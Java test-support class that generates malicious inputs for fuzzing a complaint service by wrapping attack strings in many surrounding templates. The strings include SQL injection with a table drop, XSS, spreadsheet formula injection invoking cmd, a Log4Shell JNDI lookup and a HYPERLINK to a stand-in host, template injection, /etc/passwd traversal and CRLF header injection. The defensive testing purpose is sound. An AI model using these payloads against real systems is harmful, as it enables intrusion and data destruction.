package dev.cxos.survey.complaint.grpc;

import java.util.ArrayList;
import java.util.List;

/** What people may write who want to do harm: each attack in several surroundings. */
final class HostileWords {

  private static final List<String> ATTACKS =
      List.of(
          "'; drop table complaint; --",
          "' or '1'='1",
          "$$; delete from complaint_words; $$",
          "\\'; select pg_sleep(10); --",
          "words:[* TO *]",
          "words:/.*.*.*.*.*.*x/",
          "*:* AND NOT *:*",
          "((((((((((((((((((",
          "\"unclosed phrase",
          "a~9999999999",
          "^^^ ~~~ ??? ***",
          "AND OR NOT AND OR",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "=HYPERLINK(\"http://example.com\",\"x\")",
          "+1+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd",
          "-2+3+cmd",
          "${jndi:ldap://example.com/a}",
          "#{7*7} {{7*7}} ${7*7}",
          "../../../../etc/passwd",
          "%00%0d%0aSet-Cookie: a=b",
          "<<<<\u202e\u202dgnp.exe",
          "\ud83d\ude21".repeat(50),
          "A".repeat(2_000));

  private static final List<String> SURROUNDINGS =
      List.of(
          "%s",
          " %s ",
          "parcel %s",
          "%s parcel",
          "\"%s\"",
          "(%s)",
          "%s\n%s",
          "\t%s",
          "%s;%s",
          "-%s",
          "*%s*",
          "%s OR %s",
          "{%s}",
          "[%s]",
          "'%s'",
          "<b>%s</b>",
          "%s --",
          "/*%s*/",
          "%s\u0001x",
          "\u200b%s");

  private HostileWords() {}

  static List<String> all() {
    List<String> words = new ArrayList<>();
    for (String attack : ATTACKS) {
      for (String surrounding : SURROUNDINGS) {
        words.add(surrounding.replace("%s", attack));
      }
    }
    return words;
  }
}
